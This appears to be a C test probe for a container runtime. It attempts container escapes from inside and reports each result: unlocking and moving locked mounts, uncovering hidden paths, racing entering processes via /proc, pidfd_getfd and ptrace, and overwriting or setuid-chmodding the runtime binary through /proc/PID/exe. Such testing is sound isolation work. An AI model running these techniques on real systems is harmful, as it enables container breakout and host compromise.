/* SPDX-License-Identifier: Apache-2.0 */
/*
 * escape.c - what a container's root would try, from inside. Each line is "WHAT: ok" or "WHAT: ERRNO".
 *
 *   escape unlock PATH...    takes each mount away, moves it, makes it writable, by the old and the new calls
 *   escape reveal PATH       looks below the cover of PATH by copies of what it lies on
 *   escape watch SECONDS COMM   tries to get at every process named COMM while it is named so: trace it, open its memory,
 *                            descriptors, program, root and working directory. Ends with "seen N, tries N, leaks N".
 *   escape deepen LEVELS DIR makes a directory in a directory in ... in DIR
 *   escape grab SECONDS NAME takes hold of the program of a process that executes one of that name, and tries to change it
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <libgen.h>
#include <linux/mount.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MS_RDONLY 1
#define MS_REMOUNT 32
#define MS_BIND 4096
#define MS_MOVE 8192
#define MS_REC 16384
#define MNT_DETACH 2

int mount(const char *, const char *, const char *, unsigned long, const void *);
int umount2(const char *, int);

static void said(const char *what, const char *path, long r)
{
	printf("%s %s: %s\n", what, path, r >= 0 ? "ok" : strerrorname_np(errno));
	fflush(stdout);
}

static int tree(const char *path, unsigned flags)
{
	return (int)syscall(SYS_open_tree, AT_FDCWD, path, flags);
}

static long move(int from, const char *to)
{
	return from < 0 ? -1 : syscall(SYS_move_mount, from, "", AT_FDCWD, to, MOVE_MOUNT_F_EMPTY_PATH);
}

static void unlock(const char *path)
{
	struct mount_attr writable = {
		.attr_clr = MOUNT_ATTR_RDONLY | MOUNT_ATTR_NOSUID | MOUNT_ATTR_NODEV | MOUNT_ATTR_NOEXEC
	};
	const char *to = "/tmp/to";
	struct stat st;

	if (stat(path, &st) == 0 && !S_ISDIR(st.st_mode)) {
		to = "/tmp/to.file";
		close(open(to, O_CREAT | O_WRONLY, 0600));
	} else {
		mkdir(to, 0700);
	}
	said("umount", path, umount2(path, 0));
	said("detach", path, umount2(path, MNT_DETACH));
	said("move", path, mount(path, to, NULL, MS_MOVE, NULL));
	said("move_mount", path, move(tree(path, 0), to));
	said("remount", path, mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL));
	said("mount_setattr", path, syscall(SYS_mount_setattr, AT_FDCWD, path, 0, &writable, sizeof(writable)));
	said("mount_setattr_rec", path,
	     syscall(SYS_mount_setattr, AT_FDCWD, path, AT_RECURSIVE, &writable, sizeof(writable)));
}

/* Copies of a tree keep the locks of what is mounted in it, and a copy without that is refused. */
static void reveal(const char *path)
{
	char *copy = strdup(path), *dir = dirname(copy), covered[4096], options[4096];
	int fd;

	mkdir("/tmp/copy", 0700);
	snprintf(covered, sizeof(covered), "/tmp/copy/%s", strrchr(path, '/') + 1);
	said("bind", dir, mount(dir, "/tmp/copy", NULL, MS_BIND, NULL));
	said("open_tree", dir, tree(dir, OPEN_TREE_CLONE));
	snprintf(options, sizeof(options), "lowerdir=%s:/tmp", dir);
	said("overlay", dir, mount("overlay", "/tmp/copy", "overlay", 0, options));
	said("rbind", dir, mount(dir, "/tmp/copy", NULL, MS_BIND | MS_REC, NULL));
	said("umount", covered, umount2(covered, MNT_DETACH));
	said("remount", covered, mount(NULL, covered, NULL, MS_REMOUNT | MS_BIND, NULL));
	said("umount", "/tmp/copy", umount2("/tmp/copy", MNT_DETACH));
	fd = tree(dir, OPEN_TREE_CLONE | AT_RECURSIVE);
	said("open_tree_rec", dir, fd);
	if (fd >= 0) {
		said("move_mount", dir, move(fd, "/tmp/copy"));
		said("umount", covered, umount2(covered, MNT_DETACH));
		umount2("/tmp/copy", MNT_DETACH);
	}
}

/* ---- watching ---- */

static long seen, tries, leaks;

static int is_named(const char *pid, const char *comm)
{
	char path[64], text[32];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/comm", pid);
	fd = open(path, O_RDONLY);
	n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);
	close(fd);
	if (n <= 0)
		return 0;
	text[n] = '\0';
	text[strcspn(text, "\n")] = '\0';
	return strcmp(text, comm) == 0;
}

/* The name changes with the exec: what succeeded while it was the old one, before and after, was not to. */
static void judge(const char *pid, const char *comm, const char *what, long r)
{
	tries++;
	if (r < 0 || !is_named(pid, comm))
		return;
	leaks++;
	printf("LEAK: %s of process %s\n", what, pid);
}

static void try_open(const char *pid, const char *comm, const char *what, int flags)
{
	char path[96];
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/%s", pid, what);
	fd = open(path, flags | O_NONBLOCK);
	judge(pid, comm, what, fd);
	if (fd >= 0)
		close(fd);
}

static void try_links(const char *pid, const char *comm)
{
	static const char *const links[] = { "exe", "root", "cwd", "fd/3", "ns/mnt", "map_files" };
	char path[96], text[256];

	for (size_t i = 0; i < sizeof(links) / sizeof(links[0]); i++) {
		snprintf(path, sizeof(path), "/proc/%s/%s", pid, links[i]);
		judge(pid, comm, links[i], readlink(path, text, sizeof(text)));
	}
}

static void attack(const char *pid, const char *comm)
{
	int fd = (int)syscall(SYS_pidfd_open, atoi(pid), 0);

	seen++;
	try_open(pid, comm, "exe", O_RDONLY);
	try_open(pid, comm, "exe", O_WRONLY);
	try_open(pid, comm, "mem", O_RDWR);
	try_open(pid, comm, "fd", O_RDONLY | O_DIRECTORY);
	try_open(pid, comm, "root/", O_RDONLY | O_DIRECTORY);
	try_open(pid, comm, "cwd/", O_RDONLY | O_DIRECTORY);
	try_open(pid, comm, "environ", O_RDONLY);
	try_open(pid, comm, "fd/0", O_RDONLY);
	try_open(pid, comm, "fd/5", O_PATH);
	try_links(pid, comm);
	for (int i = 0; i < 12 && fd >= 0; i++)
		judge(pid, comm, "pidfd_getfd", syscall(SYS_pidfd_getfd, fd, i, 0));
	close(fd);
	/* Last, because it would hold the process. */
	if (ptrace(PTRACE_SEIZE, atoi(pid), NULL, NULL) == 0) {
		judge(pid, comm, "ptrace", 0);
		ptrace(PTRACE_DETACH, atoi(pid), NULL, NULL);
	} else {
		judge(pid, comm, "ptrace", -1);
	}
}

static void watch(int seconds, const char *comm)
{
	time_t end = time(NULL) + seconds;

	printf("watching\n");
	fflush(stdout);
	while (time(NULL) < end) {
		DIR *proc = opendir("/proc");
		struct dirent *e;

		while (proc && (e = readdir(proc)))
			if (*e->d_name >= '1' && *e->d_name <= '9' && is_named(e->d_name, comm))
				attack(e->d_name, comm);
		if (proc)
			closedir(proc);
	}
	printf("seen %ld, tries %ld, leaks %ld\n", seen, tries, leaks);
}

/* ---- the runtime's own program ---- */

/* The program of a process whose program is named NAME, or -1. What is not ours to look at is passed over. */
static int grab_program(const char *name)
{
	DIR *proc = opendir("/proc");
	struct dirent *e;
	int fd = -1;

	while (fd < 0 && proc && (e = readdir(proc))) {
		char path[300], text[256], *base;
		ssize_t n;

		snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
		n = readlink(path, text, sizeof(text) - 1);
		if (n <= 0)
			continue;
		text[n] = '\0';
		base = strrchr(text, '/');
		if (base && strcmp(base + 1, name) == 0)
			fd = open(path, O_PATH);
	}
	if (proc)
		closedir(proc);
	return fd;
}

/* Held open, so that nothing executes it any more when we try (ETXTBSY). */
static void grab(int seconds, const char *name)
{
	time_t end = time(NULL) + seconds;
	char path[64];
	int fd = -1;

	while (fd < 0 && time(NULL) < end)
		fd = grab_program(name);
	if (fd < 0) {
		printf("nothing to grab\n");
		return;
	}
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < 2; i++) {
		said("write", name, open(path, O_WRONLY));
		said("append", name, open(path, O_RDWR | O_APPEND));
		said("truncate", name, truncate(path, 0));
		said("chmod", name, chmod(path, 04777));
		said("chown", name, chown(path, 0, 0));
		sleep(end > time(NULL) ? (unsigned)(end - time(NULL)) : 0);
	}
}

/* A tree of directories that no path reaches to the end. */
static void deepen(int levels, const char *path)
{
	char name[201];
	int dir = open(path, O_PATH | O_DIRECTORY), made = 0;

	memset(name, 'd', sizeof(name) - 1);
	name[sizeof(name) - 1] = '\0';
	while (dir >= 0 && made < levels && mkdirat(dir, name, 0755) == 0) {
		int next = openat(dir, name, O_PATH | O_DIRECTORY);

		close(dir);
		dir = next;
		made++;
	}
	printf("%s: %d levels\n", path, made);
}

int main(int argc, char **argv)
{
	const char *verb = argc > 2 ? argv[1] : "";

	for (int i = 2; strcmp(verb, "unlock") == 0 && i < argc; i++)
		unlock(argv[i]);
	if (strcmp(verb, "reveal") == 0)
		reveal(argv[2]);
	else if (strcmp(verb, "watch") == 0 && argc > 3)
		watch(atoi(argv[2]), argv[3]);
	else if (strcmp(verb, "grab") == 0 && argc > 3)
		grab(atoi(argv[2]), argv[3]);
	else if (strcmp(verb, "deepen") == 0 && argc > 3)
		deepen(atoi(argv[2]), argv[3]);
	else if (strcmp(verb, "unlock") != 0)
		return 1;
	return 0;
}
